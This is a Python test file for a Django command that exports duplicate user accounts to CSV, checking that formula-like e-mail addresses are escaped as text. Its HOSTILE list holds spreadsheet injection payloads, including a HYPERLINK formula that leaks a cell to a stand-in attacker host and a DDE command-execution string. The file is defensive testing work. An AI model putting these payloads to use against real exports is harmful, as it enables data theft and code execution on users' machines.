"""``dedupe_users --csv``: a report staff open in a spreadsheet, where no e-mail a user
typed can become a formula."""

import csv
import io

import pytest
from django.core.management import call_command

from tests.migrations_app.accounts_fixtures import make_account

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1)@example.com',
    "+cmd|' /C calc'!A0@example.com",
    "-2+3@example.com",
    "@SUM(1+1)@example.com",
    "\t=1+1@example.com",
    "\r=1+1@example.com",
]


def csv_report() -> tuple[str, list[dict[str, str]]]:
    out = io.StringIO()
    call_command("dedupe_users", "--csv", stdout=out, stderr=io.StringIO())
    return out.getvalue(), list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("email", HOSTILE)
def test_it_writes_formula_like_emails_as_text(email):
    make_account(email, login=1)
    make_account(email.upper(), active=False)

    raw, rows = csv_report()

    assert len(rows) == 2
    for row in rows:
        for column in ("email", "email_key"):
            assert row[column].startswith("'"), (column, row[column])
            assert row[column][1:].lower() == email.lower()
    # Not one cell of the file starts a formula.
    for record in csv.reader(io.StringIO(raw)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in record)


def test_it_leaves_ordinary_emails_and_values_alone():
    survivor = make_account("ann@example.com", login=1)
    make_account("ANN@example.com", active=False)

    _, rows = csv_report()

    assert [r["email"] for r in rows] == ["ann@example.com", "ANN@example.com"]
    assert rows[0]["account_id"] == str(survivor.pk)
    assert rows[0]["is_active"] == "True"
    assert rows[0]["date_joined"][0].isdigit()
